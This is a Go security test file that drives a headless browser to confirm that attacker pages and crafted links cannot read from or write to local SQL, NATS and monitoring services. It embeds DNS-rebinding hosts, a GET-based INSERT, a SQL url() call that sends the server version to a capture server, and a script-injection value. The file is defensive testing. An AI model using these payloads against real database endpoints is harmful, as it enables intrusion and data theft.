package doors_test

import (
	"context"
	_ "embed"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"ratchet/pipeline/platform/machinetest"
)

//go:embed testdata/page.html
var page string

// visitWithin bounds one visit of the browser, on the machine's clock.
const visitWithin = 3 * time.Minute

// The names of the attacker's pages, one of another site and one whose address has become ours.
const (
	otherSite = "attacker.test"
	rebound   = "rebound.test"
)

// browser is the command line of a headless browser. Where there is none the test is skipped, or fails if CI=true.
func browser(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		path, err := exec.LookPath(name)
		if err != nil {
			continue
		}
		ctx, cancel := context.WithTimeout(t.Context(), visitWithin)
		t.Cleanup(cancel)
		cmd := exec.CommandContext(ctx, path, append([]string{
			"--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking",
			"--disable-component-update", "--user-data-dir=" + t.TempDir(),
			"--host-resolver-rules=MAP " + otherSite + " 127.0.0.1, MAP " + rebound + " 127.0.0.1",
		}, args...)...)
		cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
		cmd.WaitDelay = 10 * time.Second
		return cmd
	}
	machinetest.Lacks(t, "no browser: install chromium")
	return nil
}

// visit opens the attacker's page at an address of its and returns what it could read.
func visit(t *testing.T, host string, targets map[string]string, insert string) []string {
	t.Helper()
	config, err := json.Marshal(map[string]any{"targets": targets, "insert": insert})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan []string, 1)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/done" {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, strings.Replace(page, "CONFIG", string(config), 1))
			return
		}
		var read []string
		if err := json.NewDecoder(r.Body).Decode(&read); err != nil {
			t.Error(err)
		}
		done <- read
	}))
	defer site.Close()
	_, port, _ := net.SplitHostPort(site.Listener.Addr().String())
	cmd := browser(t, "--remote-debugging-port=0", "http://"+net.JoinHostPort(host, port)+"/")
	ended := make(chan error, 1)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { ended <- cmd.Wait() }()
	defer func() { _ = cmd.Process.Kill(); <-ended }()
	select {
	case read := <-done:
		return read
	case err := <-ended:
		ended <- err
		t.Fatalf("the browser ended: %v", err)
	case <-time.After(visitWithin):
		t.Fatalf("the page from %s has not come to its end", host)
	}
	return nil
}

// follow is what a person sees who clicks a link.
func follow(t *testing.T, link string) string {
	t.Helper()
	out, err := browser(t, "--dump-dom", link).Output()
	if exit, ok := errors.AsType[*exec.ExitError](err); ok && !exit.Exited() {
		t.Logf("open %s again: the browser itself crashed: %v", link, err)
		out, err = browser(t, "--dump-dom", link).Output()
	}
	if err != nil {
		t.Fatalf("open %s: %v", link, err)
	}
	return string(out)
}

// open is a server that lets every page do everything, to show that the attacks arrive.
func open(t *testing.T) (host string, seen *trap) {
	t.Helper()
	seen = &trap{}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		seen.note(r.Method + " " + r.URL.String() + " " + r.Header.Get("Upgrade") + " " + string(body))
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		w.Header().Set("Access-Control-Allow-Methods", "*")
		fmt.Fprint(w, "read")
	}))
	t.Cleanup(s.Close)
	return s.Listener.Addr().String(), seen
}

// ways are those by which the page reaches a server, each with a word of its request.
var ways = []string{
	"GET /?query=SELECT", "GET /varz", "GET /?query=INSERT", "POST /?quota_key=post-text", "POST /?quota_key=post-no-cors", "POST /?quota_key=post-nats", "POST /?quota_key=post-urlencoded", "OPTIONS /?query=",
	"OPTIONS / ", "&quota_key=image", "&quota_key=script", "&quota_key=style", "&quota_key=frame", "POST /?quota_key=form-text", "POST /?quota_key=form-urlencoded", "POST /?quota_key=form-multipart", "quota_key=websocket websocket",
	"POST /?quota_key=beacon",
}

func TestAPageReadsNothingAndChangesNothing(t *testing.T) {
	t.Parallel()
	browser(t) // before anything is built
	b := up(t, ratchet(t))
	b.statement(t, "CREATE TABLE ratchet.attacked (a UInt8) ENGINE = MergeTree ORDER BY a")
	nc, err := nats.Connect("nats://" + b.nats)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	published, err := nc.SubscribeSync("attacked")
	if err != nil {
		t.Fatal(err)
	}
	ours := map[string]string{"SQL": b.sql, "NATS": b.nats, "monitoring": b.monitor, "probes": b.probes, "page": b.page}
	for _, from := range []string{"127.0.0.1", "localhost", otherSite} {
		control, seen := open(t)
		targets := map[string]string{"open": control}
		for name, host := range ours {
			_, port, _ := net.SplitHostPort(host)
			targets[name], targets[name+" by a name that points here"] = host, rebound+":"+port
		}
		read := visit(t, from, targets, "INSERT INTO ratchet.attacked VALUES (1)")
		for _, what := range read {
			if !strings.HasPrefix(what, "open ") {
				t.Errorf("a page from %s reads: %s", from, what)
			}
		}
		if !slices.ContainsFunc(read, func(what string) bool { return strings.HasPrefix(what, "open fetch 200 read") }) {
			t.Errorf("a page from %s reads nothing of an open server either: %v", from, read)
		}
		for _, way := range ways {
			if len(seen.with(way)) == 0 {
				t.Errorf("a page from %s does not reach an open server by %q", from, way)
			}
		}
	}
	if n := b.statement(t, "SELECT count() FROM ratchet.attacked"); n != "0" {
		t.Errorf("%s rows were written", n)
	}
	if m, err := published.NextMsg(10 * time.Millisecond); !errors.Is(err, nats.ErrTimeout) {
		t.Errorf("published: %v, %v", m, err)
	}
}

func TestALinkReadsNothingAndChangesNothing(t *testing.T) {
	t.Parallel()
	browser(t)
	b := up(t, ratchet(t))
	leak, leaked := open(t)
	b.statement(t, "CREATE TABLE ratchet.attacked (a UInt8) ENGINE = MergeTree ORDER BY a")
	_, sql, _ := net.SplitHostPort(b.sql)
	_, monitor, _ := net.SplitHostPort(b.monitor)
	script := "<script>document.title='" + "run'</script>"
	for _, c := range []struct{ link, says, not string }{
		{"http://" + b.sql + "/?query=" + url.QueryEscape("SELECT 'a' || 'nswer'"), "send the statement by POST", "answer"},
		{"http://" + b.sql + "/?query=" + url.QueryEscape("INSERT INTO ratchet.attacked VALUES (1)"), "send the statement by POST", ""},
		{"http://" + b.sql + "/?query=" + url.QueryEscape("SELECT * FROM url('http://"+leak+"/'||(SELECT version()), CSV, 'a String')"), "send the statement by POST", ""},
		{"http://" + b.sql + "/?user=" + url.QueryEscape(script) + "&query=1", "Authentication failed", "<title>run"},
		{"http://default:@" + b.sql + "/?query=" + url.QueryEscape("INSERT INTO ratchet.attacked VALUES (1)"), "send the statement by POST", ""},
		{"http://" + net.JoinHostPort(rebound, sql) + "/?query=" + url.QueryEscape("SELECT 1"), "requests for host", ""},
		{"http://" + net.JoinHostPort(rebound, monitor) + "/varz", "requests for host", "server_id"},
	} {
		said := follow(t, c.link)
		if !strings.Contains(said, c.says) || c.not != "" && strings.Contains(said, c.not) {
			t.Errorf("%s shows %.300s", c.link, said)
		}
	}
	if n := b.statement(t, "SELECT count() FROM ratchet.attacked"); n != "0" {
		t.Errorf("%s rows were written", n)
	}
	if hits := leaked.with(""); len(hits) > 0 {
		t.Errorf("connections out: %v", hits)
	}
}
